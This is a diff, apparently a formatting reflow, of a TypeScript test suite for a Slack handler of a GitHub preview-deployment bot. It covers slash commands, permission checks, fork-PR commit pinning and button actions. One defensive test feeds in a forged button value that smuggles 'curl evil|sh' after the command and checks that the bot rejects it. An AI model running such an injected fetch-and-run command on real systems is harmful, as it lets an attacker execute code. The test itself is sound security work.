@@ -5,7 +5,12 @@ import { ProbotOctokit } from "probot";
 import { createSlackApp } from "../../src/handlers/slack.js";
 import { createLogger } from "../../src/logger.js";
 import { createAuthorizer } from "../../src/services/github/authz.js";
-import type { Dispatcher, PreviewDirectory, PreviewRequest, PreviewSummary } from "../../src/services/shared/dispatch.js";
+import type {
+  Dispatcher,
+  PreviewDirectory,
+  PreviewRequest,
+  PreviewSummary,
+} from "../../src/services/shared/dispatch.js";
 import { blockActionBody, listen, postForm, signSlack, slashCommandBody, type TestServer } from "../support/slack.js";
 
 const SECRET = "8f742231b10e8888abcd99yyyzzz85a5";
@@ -31,14 +36,26 @@ class RecordingDispatcher implements Dispatcher {
   }
 }
 
-const ready: PreviewSummary = { key: "acme/web#42", owner: "acme", repo: "web", number: 42, state: "ready", url: "https://pr-42.preview.example.com/", title: "Checkout <b>", sha: "d".repeat(40) };
+const ready: PreviewSummary = {
+  key: "acme/web#42",
+  owner: "acme",
+  repo: "web",
+  number: 42,
+  state: "ready",
+  url: "https://pr-42.preview.example.com/",
+  title: "Checkout <b>",
+  sha: "d".repeat(40),
+};
 const directory: PreviewDirectory = {
   list: async (filter) => [ready].filter((p) => !filter?.owner || (p.owner === filter.owner && p.repo === filter.repo)),
   get: async (key) => (key.owner === "acme" && key.repo === "web" && key.number === 42 ? ready : undefined),
 };
 /** acme/web#42 is a fork PR whose head moved on from the deployed commit; #43 is a PR from a branch. */
 const HEAD = "e".repeat(40);
-const pulls = async (_o: string, _r: string, number: number) => ({ sha: number === 42 ? HEAD : "c".repeat(40), fork: number === 42 });
+const pulls = async (_o: string, _r: string, number: number) => ({
+  sha: number === 42 ? HEAD : "c".repeat(40),
+  fork: number === 42,
+});
 
 const identities = new Map([
   ["U0WES", "wes-write"],
@@ -58,7 +75,8 @@ let dispatcher: RecordingDispatcher;
 const targetRuns: string[] = [];
 const targets = {
   names: () => ["shop", "ledger"],
-  list: async (name: string) => (name === "shop" ? [{ name: "shop/shop-20261126T060000000Z.dump", createdAt: "2026-11-26T06:00:00.000Z" }] : []),
+  list: async (name: string) =>
+    name === "shop" ? [{ name: "shop/shop-20261126T060000000Z.dump", createdAt: "2026-11-26T06:00:00.000Z" }] : [],
   run: async (name: string) => {
     targetRuns.push(name);
   },
@@ -79,8 +97,19 @@ beforeAll(async () => {
     dispatcher,
     directory,
     identities,
-    authorizer: createAuthorizer({ clientFor: async () => new TestOctokit({ auth: { token: "ghs_0000000000000000000000000000000000" } }), isForkPr: async (_o, _r, n) => n === 42 }),
-    logger: createLogger({ level: "debug", destination: new Writable({ write(c, _e, cb) { logLines.push(String(c)); cb(); } }) }),
+    authorizer: createAuthorizer({
+      clientFor: async () => new TestOctokit({ auth: { token: "ghs_0000000000000000000000000000000000" } }),
+      isForkPr: async (_o, _r, n) => n === 42,
+    }),
+    logger: createLogger({
+      level: "debug",
+      destination: new Writable({
+        write(c, _e, cb) {
+          logLines.push(String(c));
+          cb();
+        },
+      }),
+    }),
     clientOptions: { retryConfig: { retries: 0 } },
     targets,
     pulls,
@@ -109,7 +138,12 @@ function send(body: string, headers: Record<string, string> = signSlack(SECRET, 
 function nextResponse(url = RESPONSE_URL): Promise<{ text: string; response_type?: string; blocks?: unknown[] }> {
   const { origin, pathname } = new URL(url);
   return new Promise((resolve) => {
-    nock(origin).post(pathname, (body: { text: string }) => { resolve(body); return true; }).reply(200, "ok");
+    nock(origin)
+      .post(pathname, (body: { text: string }) => {
+        resolve(body);
+        return true;
+      })
+      .reply(200, "ok");
   });
 }
 
@@ -128,11 +162,19 @@ describe("Slack /preview slash command", () => {
     await waitFor(() => dispatcher.requests.length === 1);
     dispatcher.release();
     expect(dispatcher.requests[0]).toEqual({
-      action: "deploy", owner: "acme", repo: "web", number: 43, actor: "wes-write", source: "slack",
+      action: "deploy",
+      owner: "acme",
+      repo: "web",
+      number: 43,
+      actor: "wes-write",
+      source: "slack",
       slack: { channel: "C0CHAN", user: "U0WES", responseUrl: RESPONSE_URL },
     });
     const reply = await answer;
-    expect(reply).toMatchObject({ response_type: "ephemeral", text: expect.stringContaining("Queued `deploy` for acme/web#43") });
+    expect(reply).toMatchObject({
+      response_type: "ephemeral",
+      text: expect.stringContaining("Queued `deploy` for acme/web#43"),
+    });
     expect(github.isDone()).toBe(true);
   });
 
@@ -170,7 +212,9 @@ describe("Slack /preview slash command", () => {
   });
 
   it("backs a target up for someone with backup permission on one of its allowed repositories, and lists it", async () => {
-    const github = permission("wes-write").get("/repos/acme/web/collaborators/wes-write/permission").reply(200, ROLES["wes-write"]!);
+    const github = permission("wes-write")
+      .get("/repos/acme/web/collaborators/wes-write/permission")
+      .reply(200, ROLES["wes-write"]!);
     let answer = nextResponse();
     await send(slashCommandBody({ user_id: "U0WES", text: "backup shop" }));
     expect((await answer).text).toMatch(/Backing up `shop` now/);
@@ -186,11 +230,15 @@ describe("Slack /preview slash command", () => {
     const github = permission("rita-read");
     let answer = nextResponse();
     await send(slashCommandBody({ user_id: "U0RITA", text: "backup shop" }));
-    expect((await answer).text).toMatch(/to back it up `shop` you need `backup` permission on one of the repositories allowed to use it \(acme\/web\)/);
+    expect((await answer).text).toMatch(
+      /to back it up `shop` you need `backup` permission on one of the repositories allowed to use it \(acme\/web\)/,
+    );
     expect(github.isDone()).toBe(true);
     answer = nextResponse();
     await send(slashCommandBody({ user_id: "U0MO", text: "backups ledger" }));
-    expect((await answer).text).toMatch(/`ledger` names no allowed repositories, so only preview-bot admins can list its backups/);
+    expect((await answer).text).toMatch(
+      /`ledger` names no allowed repositories, so only preview-bot admins can list its backups/,
+    );
     answer = nextResponse();
     await send(slashCommandBody({ user_id: "U0ADA", text: "backup ledger" }));
     expect((await answer).text).toMatch(/Backing up `ledger` now/);
@@ -207,7 +255,10 @@ describe("Slack /preview slash command", () => {
 
   it("answers help and parse errors in the ack itself", async () => {
     const help = await send(slashCommandBody({ text: "" }));
-    expect(JSON.parse(help.body)).toMatchObject({ response_type: "ephemeral", text: expect.stringContaining("list [owner/repo]") });
+    expect(JSON.parse(help.body)).toMatchObject({
+      response_type: "ephemeral",
+      text: expect.stringContaining("list [owner/repo]"),
+    });
     const typo = await send(slashCommandBody({ text: "deplyo acme/web#42" }));
     expect(JSON.parse(typo.body).text).toContain('Did you mean "/preview deploy"?');
   });
@@ -236,17 +287,27 @@ describe("Slack /preview slash command", () => {
   });
 
   it("pins a fork PR's deploy to a commit: the head now, the deployed one on redeploy, or the one named (when it is the head)", async () => {
-    permission("mo-maintain").get("/repos/acme/web/collaborators/mo-maintain/permission").times(2).reply(200, ROLES["mo-maintain"]!);
+    permission("mo-maintain")
+      .get("/repos/acme/web/collaborators/mo-maintain/permission")
+      .times(2)
+      .reply(200, ROLES["mo-maintain"]!);
     let answer = nextResponse();
     await send(slashCommandBody({ user_id: "U0MO", text: "deploy acme/web#42" }));
-    expect((await answer).text).toContain(`Queued \`deploy\` for acme/web#42 at \`eeeeeee\` (exactly that commit: the pull request comes from a fork)`);
+    expect((await answer).text).toContain(
+      `Queued \`deploy\` for acme/web#42 at \`eeeeeee\` (exactly that commit: the pull request comes from a fork)`,
+    );
     answer = nextResponse();
     await send(slashCommandBody({ user_id: "U0MO", text: "redeploy acme/web#42" }));
     expect((await answer).text).toContain("at `ddddddd`");
     answer = nextResponse();
     await send(slashCommandBody({ user_id: "U0MO", text: "deploy acme/web#42 ddddddd" }));
-    expect((await answer).text).toMatch(/`ddddddd` is not the head of acme\/web#42 \(the head is `eeeeeee`\), so nothing was queued/);
-    expect(dispatcher.requests.map((r) => [r.action, r.sha])).toEqual([["deploy", HEAD], ["redeploy", "d".repeat(40)]]);
+    expect((await answer).text).toMatch(
+      /`ddddddd` is not the head of acme\/web#42 \(the head is `eeeeeee`\), so nothing was queued/,
+    );
+    expect(dispatcher.requests.map((r) => [r.action, r.sha])).toEqual([
+      ["deploy", HEAD],
+      ["redeploy", "d".repeat(40)],
+    ]);
   });
 });
 
@@ -255,10 +316,14 @@ describe("Slack buttons", () => {
     const github = permission("mo-maintain");
     const url = "https://hooks.slack.com/actions/T0TEAM/2/def";
     const answer = nextResponse(url);
-    const res = await send(blockActionBody({ userId: "U0MO", actionId: "preview:destroy", value: "destroy acme/web#42", responseUrl: url }));
+    const res = await send(
+      blockActionBody({ userId: "U0MO", actionId: "preview:destroy", value: "destroy acme/web#42", responseUrl: url }),
+    );
     expect(res.status).toBe(200);
     expect((await answer).text).toContain("Queued `destroy` for acme/web#42");
-    expect(dispatcher.requests).toMatchObject([{ action: "destroy", owner: "acme", repo: "web", number: 42, actor: "mo-maintain", source: "slack" }]);
+    expect(dispatcher.requests).toMatchObject([
+      { action: "destroy", owner: "acme", repo: "web", number: 42, actor: "mo-maintain", source: "slack" },
+    ]);
     expect(github.isDone()).toBe(true);
   });
 
@@ -266,7 +331,9 @@ describe("Slack buttons", () => {
     const github = permission("wes-write");
     const url = "https://hooks.slack.com/actions/T0TEAM/3/ghi";
     const answer = nextResponse(url);
-    await send(blockActionBody({ userId: "U0WES", actionId: "preview:destroy", value: "destroy acme/web#42", responseUrl: url }));
+    await send(
+      blockActionBody({ userId: "U0WES", actionId: "preview:destroy", value: "destroy acme/web#42", responseUrl: url }),
+    );
     expect((await answer).text).toMatch(/needs maintain/);
     expect(github.isDone()).toBe(true);
     expect(dispatcher.requests).toEqual([]);
@@ -275,17 +342,33 @@ describe("Slack buttons", () => {
   it("extends via the button and answers with chat.postEphemeral when there is no response_url", async () => {
     permission("wes-write");
     const posted = new Promise<Record<string, string>>((resolve) => {
-      nock("https://slack.com").post("/api/chat.postEphemeral", (b: Record<string, string>) => { resolve(b); return true; }).reply(200, { ok: true, message_ts: "1.2" });
+      nock("https://slack.com")
+        .post("/api/chat.postEphemeral", (b: Record<string, string>) => {
+          resolve(b);
+          return true;
+        })
+        .reply(200, { ok: true, message_ts: "1.2" });
     });
     await send(blockActionBody({ userId: "U0WES", actionId: "preview:extend", value: "extend acme/web#42 3d" }));
-    expect(await posted).toMatchObject({ channel: "C0CHAN", user: "U0WES", text: expect.stringContaining("Queued `extend 3d`") });
+    expect(await posted).toMatchObject({
+      channel: "C0CHAN",
+      user: "U0WES",
+      text: expect.stringContaining("Queued `extend 3d`"),
+    });
     expect(dispatcher.requests).toMatchObject([{ action: "extend", ttlMs: 3 * 24 * 3_600_000, actor: "wes-write" }]);
   });
 
   it("ignores a forged button value", async () => {
     const url = "https://hooks.slack.com/actions/T0TEAM/4/jkl";
     const answer = nextResponse(url);
-    await send(blockActionBody({ userId: "U0MO", actionId: "preview:redeploy", value: "redeploy acme/web#42; curl evil|sh", responseUrl: url }));
+    await send(
+      blockActionBody({
+        userId: "U0MO",
+        actionId: "preview:redeploy",
+        value: "redeploy acme/web#42; curl evil|sh",
+        responseUrl: url,
+      }),
+    );
     expect((await answer).text).toBe("Sorry, I could not read that button.");
     expect(dispatcher.requests).toEqual([]);
   });
